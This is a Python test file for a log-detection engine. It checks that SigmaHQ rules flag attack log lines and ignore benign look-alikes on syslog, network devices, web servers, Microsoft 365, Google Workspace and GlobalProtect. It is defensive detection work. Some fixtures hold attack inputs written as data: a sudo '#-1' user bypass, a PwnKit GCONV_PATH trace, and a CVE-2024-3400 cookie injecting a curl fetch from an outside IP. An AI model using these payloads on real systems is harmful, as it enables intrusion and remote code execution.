"""SigmaHQ's syslog, network-device, web-server error-log, Microsoft 365 alert and Google
Workspace rules run on Maat's events. Each case is an attack the real rule is written for,
next to the benign look-alike it must not flag."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from maat.detect.sigma import Engine
from maat.services.detection import load_rule_files
from maat.telemetry.pipeline import parse_bytes
from telemetry_kit import SHARED, sigma_engine

SIGMA = SHARED / "sigma"
RECEIVED = "2026-11-26T12:00:00Z"


def _engine(*relative: str) -> Engine:
    engine: Engine = sigma_engine(SIGMA, *relative)
    return engine


def _titles(engine: Engine, data: str, path: str = "syslog") -> list[str]:
    outcome = parse_bytes(data.encode(), path=path, received=RECEIVED, max_event_bytes=65536)
    assert outcome.errors == []
    return [hit.rule.title for event in outcome.events for hit in engine.match(event)]


def test_an_ssh_daemon_attacked_with_malformed_packets_is_caught_from_syslog() -> None:
    engine = _engine("rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml")
    attack = "Nov 26 09:00:01 erp01 sshd[4242]: Corrupted MAC on input. [preauth]\n"
    benign = "Nov 26 09:00:02 erp01 sshd[4243]: Accepted publickey for deploy from 10.0.0.5\n"
    assert _titles(engine, attack + benign) == ["Suspicious OpenSSH Daemon Error"]


def test_sudo_as_user_minus_one_cve_2019_14287_is_caught_from_the_sudo_log() -> None:
    engine = _engine(
        "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml"
    )
    line = "<85>Nov 26 09:00:03 erp01 sudo:  mallory : TTY=pts/1 ; PWD=/tmp ; USER={} ; COMMAND=/bin/id"
    attack, benign = line.format("#-1"), line.format("root")
    assert len(_titles(engine, attack)) == 1
    assert _titles(engine, benign) == []


def test_pwnkit_is_caught_from_the_auth_log_and_only_there() -> None:
    engine = _engine(
        "rules-emerging-threats/2021/Exploits/CVE-2021-4034/lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml"
    )
    pwnkit = ("Nov 26 09:00:04 erp01 pkexec[777]: mallory: The value for environment variable "
              "XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] "
              "[CWD=/tmp] [COMMAND=GCONV_PATH=./pwnkit.so:.]")  # fmt: skip
    normal = (
        "Nov 26 09:00:05 erp01 pkexec[778]: alice: Executing command [USER=root] [TTY=/dev/pts/0]"
    )
    assert len(_titles(engine, pwnkit)) == 1
    assert _titles(engine, normal) == []
    # The same words in a web application's own log line are not an auth message.
    assert _titles(engine, pwnkit.replace("pkexec[777]", "webapp[10]")) == []


def test_crontab_replaced_clamav_trojans_and_vsftpd_errors_are_caught_per_service() -> None:
    engine = _engine(
        "rules/linux/builtin/cron/lnx_cron_crontab_file_modification.yml",
        "rules/linux/builtin/clamav/lnx_clamav_relevant_message.yml",
        "rules/linux/builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml",
    )
    # crontab(1) itself logs REPLACE when a user installs a new crontab.
    assert _titles(engine, "Nov 26 09:01:00 erp01 crontab[90]: (www-data) REPLACE (www-data)\n"
                           "Nov 26 09:01:01 erp01 CRON[91]: (root) CMD (run-parts /etc/cron.hourly)"
                   ) == ["Modifying Crontab"]  # fmt: skip
    assert _titles(engine, "Nov 26 09:01:02 erp01 webapp[92]: (www-data) REPLACE (www-data)") == []
    found = "Nov 26 09:01:03 erp01 clamd[93]: /srv/erp/upload/x.jsp: Webshell.JSP.Agent FOUND"
    clean = "Nov 26 09:01:04 erp01 clamd[93]: /srv/erp/upload/y.pdf: OK"
    assert _titles(engine, found + "\n" + clean) == ["Relevant ClamAV Message"]
    assert _titles(engine, found.replace("clamd", "sshd")) == []
    refused = "<30>Nov 26 09:01:05 ftp01 vsftpd[94]: Connection refused: tcp_wrappers denial."
    assert _titles(engine, refused) == ["Suspicious VSFTPD Error Messages"]


def test_security_tools_stopped_on_a_linux_host_but_not_a_routers_message() -> None:
    engine = _engine("rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml")
    stop = "Nov 26 09:02:00 erp01 systemd[1]: Stopping firewalld - dynamic firewall daemon..."
    start = "Nov 26 09:02:01 erp01 systemd[1]: Starting firewalld - dynamic firewall daemon..."
    router = "<189>88: *Nov 26 09:02:02.000: %SYS-5-LOG: stopping firewalld per operator"
    assert _titles(engine, "\n".join((stop, start, router))) == [
        "Disabling Security Tools - Builtin"
    ]


def test_cisco_crypto_key_export_and_the_ios_xe_implant_cve_2023_20198_are_caught() -> None:
    engine = _engine(
        "rules/network/cisco/aaa/cisco_cli_crypto_actions.yml",
        "rules-emerging-threats/2023/Exploits/CVE-2023-20198/cisco_syslog_cve_2023_20198_ios_xe_web_ui.yml",
    )
    export = ("<189>1234: *Nov 26 09:03:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  "
              "logged command:crypto pki export TP-ERP pem terminal 3des password x")  # fmt: skip
    show = "<189>1235: *Nov 26 09:03:01.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:show clock"
    implant = ("<189>Nov 26 09:03:02 10.20.0.1 77: Nov 26 09:03:02.000 UTC: %SYS-5-CONFIG_P: "
               "Configured programmatically by process SEP_webui_wsma_http from console as "
               "cisco_tac_admin on vty0")  # fmt: skip
    admin = implant.replace("cisco_tac_admin", "netops")
    assert _titles(engine, export) == ["Cisco Crypto Commands"]
    assert _titles(engine, show + "\n" + admin) == []
    assert len(_titles(engine, implant)) == 1
    # The same text from a Linux program is not a Cisco device's.
    assert _titles(engine, "Nov 26 09:03:03 erp01 logger[5]: crypto pki export TP pem") == []


def test_cisco_command_rules_judge_typed_commands_not_every_device_message() -> None:
    """SigmaHQ's ``aaa`` rules search command accounting; an ASA's access-list message or
    a reload notice holds their words ("access-list", "shutdown") without anyone typing."""
    engine = _engine("rules/network/cisco/aaa/cisco_cli_modify_config.yml",
                     "rules/network/cisco/aaa/cisco_cli_dos.yml")  # fmt: skip
    typed = ("<189>1236: *Nov 26 09:03:04.000: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  "
             "logged command:access-list 101 permit ip any any")  # fmt: skip
    asa_typed = ("<189>Nov 26 2026 09:03:05 asa1 : %ASA-5-111008: User 'admin' executed the "
                 "'shutdown' command.")  # fmt: skip
    acl = ("<166>Nov 26 2026 09:03:06 asa1 : %ASA-6-106100: access-list inside permitted tcp "
           "inside/10.0.0.5(5000) -> outside/203.0.113.9(443) hit-cnt 1")  # fmt: skip
    reload = "<189>88: *Nov 26 09:03:07.000: %SYS-5-RELOAD: Reload requested by admin. shutdown"
    assert len(_titles(engine, typed)) == 1
    assert len(_titles(engine, asa_typed)) == 1
    assert _titles(engine, acl + "\n" + reload) == []


def test_a_juniper_routers_bgp_failure_is_caught_and_not_judged_as_a_linux_host() -> None:
    engine = _engine("rules/network/juniper/bgp/juniper_bgp_missing_md5.yml",
                     "rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml")  # fmt: skip
    missing = ("<28>Nov 26 09:04:02 edge-mx rpd[1456]: bgp_read_v4_message:10930: NOTIFICATION "
               "received from 10.1.1.1:179 (External AS 65001): missing MD5 digest")  # fmt: skip
    assert _titles(engine, missing) == ["Juniper BGP Missing MD5"]
    stopping = "<30>Nov 26 09:04:03 edge-mx mgd[77]: stopping firewalld for maintenance"
    assert _titles(engine, stopping) == []  # a router's daemon, not a Linux host's


def test_bgp_authentication_failures_of_huawei_routers_are_caught() -> None:
    engine = _engine("rules/network/huawei/bgp/huawei_bgp_auth_failed.yml")
    failed = ("<187>Nov 26 2026 09:04:00 CORE-RTR %%01BGP/3/BGP_AUTH_FAILED(l)[12]:BGP "
              "authentication failed. (Peer=10.1.1.1:179, VpnInstance=_public_)")  # fmt: skip
    up = "<189>Nov 26 2026 09:04:01 CORE-RTR %%01BGP/5/PEER_STATE_CHG(l)[13]:peer 10.1.1.1:179 up"
    assert _titles(engine, failed + "\n" + up) == ["Huawei BGP Authentication Failures"]


def test_a_new_local_admin_on_the_fortigate_is_caught_from_its_event_log() -> None:
    engine = _engine(
        "rules/network/fortinet/fortigate/fortinet_fortigate_new_local_user_created.yml"
    )
    log = ('<189>date=2026-11-26 time=09:05:00 devname="FGT-EDGE" devid="FGT60E0000000001" '
           'logid="0100044547" type="event" subtype="system" level="information" vd="root" '
           'eventtime=1795683900000000000 tz="+0000" logdesc="Object attribute configured" '
           'user="admin" ui="GUI(203.0.113.7)" action="{action}" cfgtid=1 cfgpath="{path}" '
           'cfgobj="svc-backup" msg="{action} {path} svc-backup"')  # fmt: skip
    added = log.format(action="Add", path="user.local")
    edited = log.format(action="Edit", path="user.local")
    address = log.format(action="Add", path="firewall.address")
    assert _titles(engine, added) == ["FortiGate - New Local User Created"]
    assert _titles(engine, edited + "\n" + address) == []
    event = parse_bytes(added.encode(), path="fgt", received=RECEIVED, max_event_bytes=65536)
    assert event.events[0]["@timestamp"] == "2026-11-26T09:05:00.000000Z"
    assert event.events[0]["event.dataset"] == "fortinet.fortigate"


def test_logid_and_devid_in_an_sshd_message_do_not_make_it_a_fortigate_event() -> None:
    """A remote client chooses the user name sshd logs: it must not turn the line into a
    firewall log that hides it from the sshd rules and fires the firewall ones."""
    engine = _engine("rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
                     "rules/network/firewall/net_firewall_cleartext_protocols.yml")  # fmt: skip
    line = ("Nov 26 09:05:01 erp01 sshd[4242]: Corrupted MAC on input. user logid=1 devid=x "
            "type=traffic dstport=21 action=accept eventtime=1000000000")  # fmt: skip
    assert _titles(engine, line) == ["Suspicious OpenSSH Daemon Error"]
    event = parse_bytes(line.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[0]
    assert (event["event.dataset"], event["@timestamp"]) == (
        "syslog",
        "2026-11-26T09:05:01.000000Z",
    )


def test_sudo_arguments_cannot_overwrite_the_target_user_cve_2019_14287() -> None:
    engine = _engine(
        "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml"
    )
    line = ("<85>Nov 26 09:05:02 erp01 sudo:  mallory : TTY=pts/1 ; PWD=/tmp ; USER=#-1 ; "
            "COMMAND=/usr/bin/bash -c id ; USER=root")  # fmt: skip
    assert len(_titles(engine, line)) == 1
    event = parse_bytes(line.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[0]
    assert event["sudo.USER"] == ["#-1", "root"]  # ambiguous: every value kept
    assert event["sudo.COMMAND"] == "/usr/bin/bash -c id ; USER=root"
    # The working directory comes before USER and is the user's to name.
    hidden = line.replace("PWD=/tmp ; USER=#-1 ; COMMAND=/usr/bin/bash -c id ; USER=root",
                          "PWD=/tmp/x ; USER=root ; USER=#-1 ; COMMAND=/bin/id")  # fmt: skip
    assert len(_titles(engine, hidden)) == 1
    event = parse_bytes(hidden.encode(), path="s", received=RECEIVED, max_event_bytes=65536).events[
        0
    ]
    assert event["sudo.USER"] == ["root", "#-1"]


def test_web_server_crashes_are_caught_from_apache_and_nginx_error_logs() -> None:
    engine = _engine("rules/web/product/apache/web_apache_segfault.yml",
                     "rules/web/product/nginx/web_nginx_core_dump.yml")  # fmt: skip
    apache = ("[Thu Nov 26 09:06:00.123456 2026] [core:notice] [pid 1200:tid 1] AH00051: child "
              "pid 1300 exit signal Segmentation fault (11), possible coredump in /etc/apache2")  # fmt: skip
    graceful = (
        "[Thu Nov 26 09:06:01.000000 2026] [mpm_event:notice] [pid 1200:tid 1] AH00489: resuming"
    )
    nginx = "2026/11/26 09:06:02 [alert] 900#0: worker process 901 exited on signal 6 (core dumped)"
    assert _titles(engine, apache + "\n" + graceful, "error.log") == ["Apache Segmentation Fault"]
    assert _titles(engine, nginx, "error.log") == ["Nginx Core Dump"]


def _m365(workload: str, operation: str, **extra: str) -> str:
    return json.dumps({"CreationTime": "2026-11-26T09:07:00", "Id": "a1", "Operation": operation,
                       "Workload": workload, "RecordType": 40, "UserId": "SecurityComplianceAlerts",
                       "ResultStatus": "Succeeded", **extra})  # fmt: skip


def test_microsoft_365_ransomware_alerts_and_a_federated_domain_are_caught() -> None:
    engine = _engine(
        "rules/cloud/m365/threat_management/microsoft365_potential_ransomware_activity.yml",
        "rules/cloud/m365/exchange/microsoft365_new_federated_domain_added_exchange.yml",
    )
    ransom = _m365("SecurityComplianceCenter", "AlertTriggered",
                   Name="Potential ransomware activity")  # fmt: skip
    other = _m365("SecurityComplianceCenter", "AlertTriggered", Name="Email reported by user")
    federated = _m365("Exchange", "Add-FederatedDomain")
    failed = json.loads(_m365("Exchange", "Add-FederatedDomain"))
    failed["ResultStatus"] = "Failed"
    assert _titles(engine, ransom) == ["Microsoft 365 - Potential Ransomware Activity"]
    assert _titles(engine, other) == []
    assert _titles(engine, federated) == ["New Federated Domain Added - Exchange"]
    assert _titles(engine, json.dumps(failed)) == []
    # Security & Compliance alerts carry no ResultStatus: read as success, as Elastic's
    # Microsoft 365 integration (whose names the rules use) reads them.
    alert = json.loads(ransom)
    del alert["ResultStatus"]
    alert["Status"] = "Active"
    assert _titles(engine, json.dumps(alert)) == ["Microsoft 365 - Potential Ransomware Activity"]


def _workspace(service: str, event_name: str, **parameters: str) -> str:
    params = [{"name": k.upper(), "value": v} for k, v in parameters.items()]
    return json.dumps({
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "serviceName": service, "methodName": f"google.admin.AdminService.{event_name}",
            "authenticationInfo": {"principalEmail": "admin@skyward.example"},
            "metadata": {"event": [{"eventName": event_name, "parameter": params}]},
        },
        "timestamp": "2026-11-26T09:08:00Z",
    })  # fmt: skip


def test_google_workspace_mfa_disabled_and_a_suspicious_login_are_caught() -> None:
    engine = _engine("rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_mfa_disabled.yml",
                     "rules/cloud/gcp/gworkspace/login/gcp_gworkspace_suspicious_login.yml")  # fmt: skip
    disabled = _workspace("admin.googleapis.com", "ENFORCE_STRONG_AUTHENTICATION",
                          new_value="false")  # fmt: skip
    enabled = _workspace("admin.googleapis.com", "ENFORCE_STRONG_AUTHENTICATION",
                         new_value="true")  # fmt: skip
    login = _workspace("login.googleapis.com", "suspicious_login")
    ok = _workspace("login.googleapis.com", "login_success")
    assert _titles(engine, disabled) == ["Google Workspace MFA Disabled"]
    assert _titles(engine, enabled + "\n" + ok) == []
    assert len(_titles(engine, login)) == 1


def _fortigate_traffic(action: str, port: int, destination: str = "203.0.113.9") -> str:
    return (f'date=2026-11-26 time=09:10:00 devname="FGT-EDGE" devid="FGT60E1" logid="0000000013" '
            f'type="traffic" subtype="forward" srcip=10.20.1.15 srcport=51000 '
            f'dstip={destination} dstport={port} proto=6 action="{action}" policyid=7')  # fmt: skip


def test_firewall_rules_judge_the_fortigates_traffic_log() -> None:
    engine = _engine(
        "rules/network/firewall/net_firewall_cleartext_protocols.yml",
        "rules-emerging-threats/2017/TA/Equation-Group/net_firewall_apt_equationgroup_c2.yml",
    )
    assert _titles(engine, _fortigate_traffic("close", 21)) == ["Cleartext Protocol Usage"]
    assert _titles(engine, _fortigate_traffic("deny", 21)) == []  # refused: nothing went out
    assert _titles(engine, _fortigate_traffic("close", 443)) == []
    c2 = _titles(engine, _fortigate_traffic("deny", 443, destination="69.42.98.86"))
    assert c2 == ["Equation Group C2 Communication"]
    # A FortiGate's event log (a configuration change) is not traffic.
    config = (
        'date=2026-11-26 time=09:10:01 devname="F" devid="F1" logid="01" type="event" dstport=21'
    )
    assert _titles(engine, config) == []


def test_a_duo_bypass_code_and_a_onelogin_user_assuming_another_are_caught() -> None:
    engine = _engine("rules/identity/cisco_duo/cisco_duo_mfa_bypass_via_bypass_code.yml",
                     "rules/identity/onelogin/onelogin_assumed_another_user.yml")  # fmt: skip
    duo = {"txid": "t-1", "event_type": "authentication", "factor": "bypass_code",
           "reason": "bypass_user", "result": "success", "isotimestamp": "2026-11-26T09:11:00Z",
           "user": {"name": "erp-admin"}, "access_device": {"ip": "203.0.113.7"}}  # fmt: skip
    push = {**duo, "factor": "duo_push", "reason": "user_approved"}
    assert _titles(engine, json.dumps(duo)) == [
        "Cisco Duo Successful MFA Authentication Via Bypass Code"
    ]
    assert _titles(engine, json.dumps(push)) == []
    assumed = {"id": 1, "account_id": 9, "event_type_id": 3, "created_at": "2026-11-26T09:12:00Z",
               "user_name": "alice", "actor_user_name": "mallory", "ipaddr": "203.0.113.8"}  # fmt: skip
    login = {**assumed, "event_type_id": 5}
    assert _titles(engine, json.dumps(assumed)) == ["OneLogin User Assumed Another User"]
    assert _titles(engine, json.dumps(login)) == []


def test_every_syslog_device_and_saas_rule_of_sigmahq_now_has_a_route(tmp_path: Path) -> None:
    folders = ["rules/linux/builtin", "rules/network", "rules/identity", "rules/application",
               "rules/category/database", "rules/cloud/m365", "rules/cloud/gcp/gworkspace",
               "rules/web/product", "rules/cloud/azure/privileged_identity_management",
               "rules/macos/file_event"]  # fmt: skip
    paths = [SIGMA / f for f in folders]
    if not all(p.exists() for p in paths):
        pytest.skip(f"{SIGMA} is absent (see shared/data/SOURCES.md)")
    engine = load_rule_files(paths)[1]
    assert engine.problems == []
    assert len(engine.rules) >= 150


def _app_titles(engine: Engine, data: str, application: str) -> list[str]:
    outcome = parse_bytes(data.encode(), path="app.log", received=RECEIVED, max_event_bytes=65536,
                          source=f"app.{application}")  # fmt: skip
    assert outcome.errors == []
    return [hit.rule.title for event in outcome.events for hit in engine.match(event)]


def test_log4shell_in_a_java_services_stack_trace_and_sql_injection_errors_are_caught() -> None:
    engine = _engine("rules/application/jvm/java_jndi_injection_exploitation_attempt.yml",
                     "rules/application/sql/app_sqlinjection_errors.yml")  # fmt: skip
    trace = ("2026-11-26 09:09:00,123 ERROR [http-nio-8080-exec-3] c.s.erp.Api - lookup failed\n"
             "\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1092)\n"
             "\tat com.skyward.erp.Api.find(Api.java:40)")  # fmt: skip
    sql = "2026-11-26 09:09:01 ERROR You have an error in your SQL syntax; check the manual near ''1''"
    assert len(_app_titles(engine, trace, "jvm")) == 1
    assert len(_app_titles(engine, sql, "sql")) == 1
    # Each application's rules judge its own log only.
    assert _app_titles(engine, sql, "jvm") == [] and _app_titles(engine, trace, "sql") == []


def test_a_privileged_role_activated_without_mfa_is_caught_from_pim_alert_incidents() -> None:
    engine = _engine(
        "rules/cloud/azure/privileged_identity_management/azure_pim_role_no_mfa_required.yml"
    )
    incident = {"@odata.type": "#microsoft.graph.noMfaOnRoleActivationAlertIncident",
                "id": "a1", "roleDisplayName": "Global Administrator",
                "roleTemplateId": "62e90394", "roleDefinitionId": "62e90394"}  # fmt: skip
    stale = {**incident, "@odata.type": "#microsoft.graph.staleSignInAlertIncident",
             "assigneeUserPrincipalName": "old@skyward.example"}  # fmt: skip
    assert _titles(engine, json.dumps(incident)) == ["Roles Activation Doesn't Require MFA"]
    assert _titles(engine, json.dumps(stale)) == []
    event = parse_bytes(json.dumps(stale).encode(), path="pim", received=RECEIVED,
                        max_event_bytes=65536).events[0]  # fmt: skip
    assert (event["event.module"], event["user.name"]) == ("azure_pim", "old@skyward.example")
    assert event["@timestamp"] == RECEIVED  # an incident has no time of its own


def _event(record: dict[str, object]) -> dict[str, object]:
    out = parse_bytes(json.dumps(record).encode(), path="r", received=RECEIVED,
                      max_event_bytes=65536)  # fmt: skip
    assert out.errors == []
    return out.events[0]


def test_outcomes_and_parameters_of_m365_duo_workspace_and_pim_records() -> None:
    m365 = json.loads(_m365("Exchange", "Set-Mailbox"))
    outcomes = {}
    for status in ("PartiallySucceeded", "Failed", True, False, None, 0, ""):
        outcomes[repr(status)] = _event({**m365, "ResultStatus": status}).get("event.outcome")
    assert outcomes == {"'PartiallySucceeded'": "success", "'Failed'": "failure",
                        "True": "success", "False": "failure", "None": None, "0": None,
                        "''": None}  # fmt: skip
    duo = {"txid": "t", "event_type": "authentication", "factor": "duo_push",
           "isotimestamp": "2026-11-26T09:11:00Z"}  # fmt: skip
    assert [_event({**duo, "result": r}).get("event.outcome")
            for r in ("success", "denied", "fraud", "error", "unknown")] == [
        "success", "failure", "failure", "failure", None]  # fmt: skip
    workspace = json.loads(_workspace("admin.googleapis.com", "CHANGE_GROUP_SETTING"))
    workspace["protoPayload"]["metadata"]["event"][0]["parameter"] = [
        {"name": "GROUP_EMAIL", "multiStrValue": ["a@x", "b@x"]},
        {"name": "COUNT", "multiIntValue": [1, 2]}]  # fmt: skip
    got = _event(workspace)
    assert (got["gcp.workspace.group_email"], got["gcp.workspace.count"]) == (
        ["a@x", "b@x"], ["1", "2"])  # fmt: skip
    pim = {"@odata.type": "#microsoft.graph.staleSignInAlertIncident", "id": "x",
           "assignmentCreatedDateTime": "2019-01-01T00:00:00Z",
           "lastSignInDateTime": "2019-06-01T00:00:00Z"}  # fmt: skip
    assert _event(pim)["@timestamp"] == RECEIVED  # not the years-old assignment


def test_cve_2024_3400_globalprotect_command_injection_is_caught_in_gpsvc_and_mp_log() -> None:
    """SigmaHQ's rule on the appliance's own logs, named with --source
    paloalto.globalprotect: the session cookie's path traversal in gpsvc.log, and the
    injected command in device telemetry; a broken session and plain telemetry are not."""
    engine = sigma_engine(
        SIGMA,
        "rules-emerging-threats/2024/Exploits/CVE-2024-3400/"
        "paloalto_globalprotect_exploit_cve_2024_3400_command_injection.yml",
    )
    assert engine.problems == []
    traversal = (b'{"level":"error","task":"1393-22","time":"2024-04-16T06:28:45.128393+00:00",'
                 b'"message":"failed to unmarshal session(/../../../../opt/panlogs/tmp/device_'
                 b'telemetry/minute/y`curl${IFS}http://172.233.228.93/x`) map , EOF"}')  # fmt: skip
    injected = (b"2024-04-16 06:31:00.000 -0700 debug: /opt/panlogs/tmp/device_telemetry/"
                b"minute/y`curl${IFS}http://172.233.228.93/x` upload")  # fmt: skip
    broken = (b'{"level":"error","task":"1393-22","time":"2024-04-16T06:28:45Z",'
              b'"message":"failed to unmarshal session(0f9c2a) map , EOF"}')  # fmt: skip
    telemetry = (b"2024-04-16 06:32:00.000 -0700 debug: /opt/panlogs/tmp/device_telemetry/"
                 b"minute/dt_20240416.tgz upload")  # fmt: skip
    out = parse_bytes(b"\n".join([traversal, injected, broken, telemetry]), path="gp.log",
                      received="2026-11-26T00:00:00Z", max_event_bytes=65536,
                      source="paloalto.globalprotect")  # fmt: skip
    assert out.errors == []
    titles = [[h.rule.title for h in engine.match(e)] for e in out.events]
    title = "Potential CVE-2024-3400 Exploitation - Palo Alto GlobalProtect OS Command Injection"
    assert titles == [[title], [title], [], []]
